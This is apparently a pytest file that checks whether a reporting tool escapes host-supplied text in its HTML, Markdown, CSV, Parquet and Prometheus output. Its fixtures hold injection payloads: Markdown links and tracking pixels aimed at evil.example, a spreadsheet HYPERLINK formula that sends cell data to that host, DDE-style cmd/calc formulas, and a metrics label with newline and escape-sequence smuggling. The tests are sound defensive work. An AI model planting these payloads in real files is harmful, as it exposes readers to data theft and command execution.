"""Reports that survive what hosts print (issue 20, item 5).

A phase name and a log line come from the host: a ``$...$`` in them was parsed by
matplotlib as mathtext and killed report.html, and a backtick in ``last_log_line`` ended
report.md's code span, so what followed became links and images in a pasted bug report.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from reprofleet.records.pooling import load_pool
from reprofleet.report import render_html, render_markdown
from reprofleet.report.markdown import code_span
from reprofleet.verdicts import judge

from tests.support.synthetic_campaign import Spec, build, write

MATH_PHASE = r"warmup $\notacommand{x}$"  # mathtext raises on an unknown command
MATH_LINE = r"loss went $\frac{1}{0$ at step 3"  # and on an unclosed brace
HOSTILE_LINE = "done` [bug tracker](https://evil.example/x) ![pixel](https://evil.example/p.png) ``|`"


def hostile_campaign(folder: Path, phase: str, line: str) -> Path:
    content: dict[str, Any] = build(Spec(attempts=3))
    for lines in content["streams"].values():
        for entry in lines:
            if entry["k"] == "phase":
                entry["phase"] = f"{entry['phase']} {phase}"
            if entry["k"] in ("log", "phase"):
                entry["line"] = line
    for record in content["records"]:
        if record["last_phase"]:
            record["last_phase"] = f"{record['last_phase']} {phase}"
            record["last_log_line"] = line
    return write(folder, content)


def test_dollar_signs_in_host_phases_and_log_lines_are_drawn_as_text_and_the_page_is_made(tmp_path: Path) -> None:
    folder = hostile_campaign(tmp_path / "c", MATH_PHASE, MATH_LINE)
    pool = load_pool([folder])
    page = render_html(judge(pool), pool, "t")
    wedge = next(r for r in pool.records if r["outcome"] == "wedge")
    block = page.split(f'id="freeze-{wedge["attempt"]}"', 1)[1].split("</article>", 1)[0]
    assert "<svg" in block
    assert r"$\notacommand{x}$" in block  # the label as the host wrote it, inside the figure's text


def markdown_html(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


def test_a_backtick_and_a_link_in_the_last_log_line_stay_inside_its_code_span(tmp_path: Path) -> None:
    folder = hostile_campaign(tmp_path / "c", "`[x](https://evil.example/phase)`", HOSTILE_LINE)
    pool = load_pool([folder])
    html = markdown_html(render_markdown(judge(pool), pool.records, "t"))
    assert "<a " not in html and "<img" not in html
    assert "<code>done` [bug tracker](https://evil.example/x) ![pixel](https://evil.example/p.png) ``|`</code>" in html


@pytest.mark.parametrize("text", ["plain", "`", "``a`", "a ` b", " lead", "x|y", "ends with `", "```"])
def test_a_code_span_renders_back_to_exactly_the_text_it_quotes(text: str) -> None:
    html = markdown_html(f"| a |\n| --- |\n| {code_span(text)} |\n")
    cell = html.split("<td>", 1)[1].split("</td>", 1)[0]
    assert cell == "<code>" + text.replace("&", "&amp;").replace("<", "&lt;") + "</code>"


# -- reasons, BMC events and the verdicts that quote them (issue 34) -----------------------------
MARKDOWN_ATTACK = ("x` [bug tracker](https://evil.example/r) ![pixel](https://evil.example/p.png) "
                   "<img src=https://evil.example/i> *bold* \n# owned heading\n`` ~~gone~~ &lt;")


def reasons_campaign(folder: Path) -> Path:
    """A campaign whose infra reasons (one not run, one excluded) and BMC event are the attack."""
    content: dict[str, Any] = build(Spec(attempts=3))
    records = content["records"]
    records[0].update(outcome="infra", reason=f"not run: {MARKDOWN_ATTACK}")
    records[1].update(outcome="infra", reason=MARKDOWN_ATTACK)
    for record in records:
        if record["outcome"] in ("wedge", "reboot"):
            record["forensics"] = {**(record.get("forensics") or {}),
                                   "bmc_events": [{"severity": "Critical", "message": MARKDOWN_ATTACK}]}
    return write(folder, content)


def test_a_hosts_reason_and_bmc_event_are_no_link_image_or_heading_in_report_md(tmp_path: Path) -> None:
    pool = load_pool([reasons_campaign(tmp_path / "c")])
    judgement = judge(pool)
    markdown = render_markdown(judgement, pool.records, "t")
    assert "evil.example" in markdown and any("evil.example" in v.text for v in judgement.verdicts)
    html = markdown_html(markdown)
    assert "<a " not in html and "<img" not in html and "<em>" not in html and "<del>" not in html
    assert "owned heading</h" not in html and "<h1>t</h1>" in html
    assert html.count("evil.example/r") == markdown.count("evil.example/r")  # every one shown, inside <code>
    for quoted in re.findall(r"<code>(.*?)</code>", html, re.S):
        assert "\n" not in quoted


# -- the CSV and Parquet export (issue 34): a host's text is never a formula, a number stays one ---
FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'


def test_a_formula_in_a_hosts_text_is_text_in_csv_and_parquet_and_negative_numbers_stay_numbers(
        tmp_path: Path) -> None:
    import csv
    import io

    import pyarrow.parquet as pq

    from reprofleet.report.export import ExportFormat, ExportRequest, export_rows

    content: dict[str, Any] = build(Spec(attempts=3))
    attacks = {0: FORMULA, 1: "@SUM(1+1)*cmd|' /C calc'!A0", 2: "+1+1", 3: "-2+3+cmd|' /C calc'!A0", 4: "\t=1"}
    for index, line in attacks.items():
        content["records"][index].update(last_log_line=line, reason=line, exit_code=-9)
    folder = write(tmp_path / "c", content)
    text = export_rows(ExportRequest((folder,), ExportFormat.CSV)).text
    assert text is not None
    rows = {row["last_log_line"]: row for row in csv.DictReader(io.StringIO(text))}
    for line in attacks.values():
        assert rows["'" + line]["reason"] == "'" + line and rows["'" + line]["exit_code"] == "-9"
    assert not any(cell.startswith(("=", "+", "@", "\t")) or (cell.startswith("-") and cell != "-9")
                   for row in rows.values() for cell in row.values() if cell)
    export_rows(ExportRequest((folder,), ExportFormat.PARQUET, tmp_path / "a.parquet"))
    table = pq.read_table(tmp_path / "a.parquet").to_pylist()
    assert {r["last_log_line"] for r in table} >= {"'" + line for line in attacks.values()}
    assert {r["exit_code"] for r in table if (r["last_log_line"] or "").startswith("'")} == {-9}


def test_a_hosts_text_in_a_prometheus_label_is_one_escaped_value_on_its_line() -> None:
    """Label values per the exposition format (backslash, quote, newline escaped), controls gone (issue 34)."""
    from reprofleet.records.prometheus import Family, render, sample

    attack = 'ws1"} 1\nreprofleet_owned{x="\\\x1b]0;title\x07\r'
    text = render([Family("reprofleet_attempts_total", "help\nwith \x1b[2J a line", "counter",
                          (sample(3, campaign="c", host=attack),))])
    lines = text.splitlines()
    assert lines == ["# HELP reprofleet_attempts_total help\\nwith  a line", "# TYPE reprofleet_attempts_total counter",
                     'reprofleet_attempts_total{campaign="c",host="ws1\\"} 1\\nreprofleet_owned{x=\\"\\\\"} 3']
